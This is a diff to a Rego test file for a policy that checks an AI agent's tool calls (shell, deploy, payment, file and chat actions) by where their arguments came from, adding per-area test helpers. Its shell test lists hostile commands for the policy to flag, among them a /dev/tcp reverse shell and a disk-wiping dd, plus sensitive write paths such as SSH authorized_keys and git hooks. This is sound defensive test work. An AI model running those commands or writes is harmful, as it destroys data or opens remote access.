@@ -1,6 +1,7 @@
 package weir.tool_call_starter_test
 
 import data.weir.action
+import data.weir.action.defaults
 import data.weir.tool_call.account
 import data.weir.tool_call.booking
 import data.weir.tool_call.calendar
@@ -27,8 +28,28 @@ tainted(name, args, provenance, taint) := object.union(
 
 # What the rules find, as `effect id`.
 found(asked) := ids if {
-	ids := findings with input as asked
+	# Told once for each name: within the rules they are told anew for each input.
+	known := action.classes_of(asked.tool.name)
+	roles := defaults.roles
+	ids := findings with input as asked with action.classes as known with defaults.roles as roles
 }
+
+# What the rules of one area find: all of them for each of many calls takes long.
+of_area(area, asked) := ids if {
+	known := action.classes_of(asked.tool.name)
+	roles := defaults.roles
+	ids := findings_of(area) with input as asked with action.classes as known with defaults.roles as roles
+}
+
+findings_of("shell") := {concat(" ", [finding.effect, finding.id]) | some finding in shell.findings}
+
+findings_of("deploy") := {concat(" ", [finding.effect, finding.id]) | some finding in deploy.findings}
+
+findings_of("payment") := {concat(" ", [finding.effect, finding.id]) | some finding in payment.findings}
+
+findings_of("files") := {concat(" ", [finding.effect, finding.id]) | some finding in files.findings}
+
+findings_of("chat") := {concat(" ", [finding.effect, finding.id]) | some finding in chat.findings}
 
 findings := {concat(" ", [finding.effect, finding.id]) |
 	some list in [
@@ -140,11 +161,11 @@ test_chat_goes_to_those_whom_the_person_or_the_directory_names if {
 
 test_who_is_let_in_may_be_looked_up_where_the_person_said if {
 	looked_up := {"user": "user", "user_email": tool, "user_email@lookup": "user", "user_email@alone": "yes"}
-	found(call("invite_user_to_slack", {}, looked_up)) == set()
+	of_area("chat", call("invite_user_to_slack", {}, looked_up)) == set()
 	every change in [
 		{"user": tool}, {"user_email@lookup": tool}, {"user_email@alone": "no"}, {"user@short": "yes"},
 	] {
-		found(call("invite_user_to_slack", {}, object.union(looked_up, change))) & {"approve chat.member"} != set()
+		of_area("chat", call("invite_user_to_slack", {}, object.union(looked_up, change))) & {"approve chat.member"} != set()
 	}
 }
 
@@ -181,10 +202,10 @@ test_files_are_shared_with_those_whom_the_person_names if {
 
 test_places_where_programs_start_are_written_on_the_persons_word if {
 	every path in ["/home/a/.ssh/authorized_keys", ".github/workflows/ci.yml", "C:\\x\\.git\\hooks\\pre-commit", ".bashrc"] {
-		found(call("write_file", {"path": path}, {"path": "unknown"})) == {"approve files.sensitive_path"}
-		found(call("write_file", {"path": path}, {"path": "user"})) == set()
+		of_area("files", call("write_file", {"path": path}, {"path": "unknown"})) == {"approve files.sensitive_path"}
+		of_area("files", call("write_file", {"path": path}, {"path": "user"})) == set()
 	}
-	found(call("write_file", {"path": "notes.md"}, {"path": "unknown"})) == set()
+	of_area("files", call("write_file", {"path": "notes.md"}, {"path": "unknown"})) == set()
 }
 
 test_pages_are_opened_that_the_person_or_a_member_named if {
@@ -198,23 +219,23 @@ test_pages_are_opened_that_the_person_or_a_member_named if {
 }
 
 test_money_goes_to_accounts_of_the_person if {
-	found(call("send_money", {"amount": 5}, {"recipient": "user", "amount": "unknown"})) == set()
-	found(call("send_money", {"amount": 5}, {"recipient": "directory", "amount": "unknown"})) == set()
-	found(call("send_money", {"amount": 5}, {"recipient": tool, "amount": "user"})) == {"approve payment.account"}
-	found(call("send_money", {"amount": 5}, {"recipient": tool, "recipient@confirmed": "user"})) == {"approve payment.account"}
-	found(call("send_money", {"amount": 5}, {"recipient": "unknown", "amount": "user"})) == {"deny payment.unknown_account"}
-	found(call("send_money", {"amount": 5}, {"amount": "user"})) == {"approve payment.no_account"}
-	found(call("update_transaction", {"amount": 5}, {"id": tool, "amount": "user"})) == set()
+	of_area("payment", call("send_money", {"amount": 5}, {"recipient": "user", "amount": "unknown"})) == set()
+	of_area("payment", call("send_money", {"amount": 5}, {"recipient": "directory", "amount": "unknown"})) == set()
+	of_area("payment", call("send_money", {"amount": 5}, {"recipient": tool, "amount": "user"})) == {"approve payment.account"}
+	of_area("payment", call("send_money", {"amount": 5}, {"recipient": tool, "recipient@confirmed": "user"})) == {"approve payment.account"}
+	of_area("payment", call("send_money", {"amount": 5}, {"recipient": "unknown", "amount": "user"})) == {"deny payment.unknown_account"}
+	of_area("payment", call("send_money", {"amount": 5}, {"amount": "user"})) == {"approve payment.no_account"}
+	of_area("payment", call("update_transaction", {"amount": 5}, {"id": tool, "amount": "user"})) == set()
 }
 
 test_an_amount_is_a_number_within_the_limit_or_the_persons if {
 	every amount in [2001, -1, 0, null, "5", false, [5], {"value": 5}, 1e300] {
-		found(call("send_money", {"amount": amount}, {"recipient": "user", "amount": tool})) == {"approve payment.amount"}
+		of_area("payment", call("send_money", {"amount": amount}, {"recipient": "user", "amount": tool})) == {"approve payment.amount"}
 	}
 	every amount in [-1, 0, null, "50000", false] {
-		found(call("send_money", {"amount": amount}, {"recipient": "user", "amount": "user"})) == {"approve payment.amount"}
+		of_area("payment", call("send_money", {"amount": amount}, {"recipient": "user", "amount": "user"})) == {"approve payment.amount"}
 	}
-	found(call("send_money", {"amount": 50000}, {"recipient": "user", "amount": "user"})) == set()
+	of_area("payment", call("send_money", {"amount": 50000}, {"recipient": "user", "amount": "user"})) == set()
 	small := call("send_money", {"amount": 200}, {"recipient": "user", "amount": tool})
 	found(small) == {"approve payment.amount"} with data.weir.flow as {"unconfirmedAmountMax": 100}
 	found(small) == set() with data.weir.flow as {"unconfirmedAmountMax": 200}
@@ -252,31 +273,31 @@ test_commands_that_destroy_are_asked_about if {
 		"git push origin +main", "echo aGk= | base64 -d", "sudo id", "terraform destroy", "kubectl delete pod x",
 		"psql -c 'DROP TABLE x'", "dd if=/dev/zero of=/dev/sda", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
 	] {
-		found(call("Bash", {"command": command}, {"command": "user"})) == {"approve shell.dangerous"}
+		of_area("shell", call("Bash", {"command": command}, {"command": "user"})) == {"approve shell.dangerous"}
 	}
 	every command in ["ls -la", "git push", "rmdir x", "npm test"] {
-		found(call("Bash", {"command": command}, {"command": "user"})) == set()
+		of_area("shell", call("Bash", {"command": command}, {"command": "user"})) == set()
 	}
 }
 
 test_production_waits_for_a_person if {
-	found(call("deploy_service", {"environment": "staging"}, {"environment": "user"})) == set()
+	of_area("deploy", call("deploy_service", {"environment": "staging"}, {"environment": "user"})) == set()
 	every args in [{"environment": "production"}, {"environment": "eu-Prod-1"}, {"service": "staging"}, {"environment": null}, {"environment": ""}] {
 		every name in ["deploy_service", "rollback"] {
-			"approve deploy.production" in found(call(name, args, {path: "user" | some path, _ in args}))
+			"approve deploy.production" in of_area("deploy", call(name, args, {path: "user" | some path, _ in args}))
 		}
 	}
-	found(call("deploy_service", {"environment": "staging", "ref": "x"}, {"environment": "user", "ref": tool})) == {"approve deploy.unnamed"}
+	of_area("deploy", call("deploy_service", {"environment": "staging", "ref": "x"}, {"environment": "user", "ref": tool})) == {"approve deploy.unnamed"}
 }
 
 test_history_is_not_rewritten if {
 	every args in [{"force": true}, {"force": "true"}, {"options": {"forcePush": 1}}, {"args": "--force-with-lease origin"}, {"refspec": "+main"}, {"args": "-uf origin"}] {
-		"deny code.force_push" in found(call("git_push", args, {}))
+		"deny code.force_push" in of_area("deploy", call("git_push", args, {}))
 	}
-	"deny code.force_push" in found(call("push_force", {"branch": "x"}, {"branch": "user"}))
-	found(call("git_push", {"branch": "fix", "force": false}, {"branch": "user", "force": "unknown"})) == set()
-	found(call("git_push", {"branch": "fix"}, {"branch": tool})) == {"approve code.push"}
-	found(call("git_push", {}, {})) == {"approve code.push"}
+	"deny code.force_push" in of_area("deploy", call("push_force", {"branch": "x"}, {"branch": "user"}))
+	of_area("deploy", call("git_push", {"branch": "fix", "force": false}, {"branch": "user", "force": "unknown"})) == set()
+	of_area("deploy", call("git_push", {"branch": "fix"}, {"branch": tool})) == {"approve code.push"}
+	of_area("deploy", call("git_push", {}, {})) == {"approve code.push"}
 }
 
 test_credentials_are_read_when_the_person_names_them if {
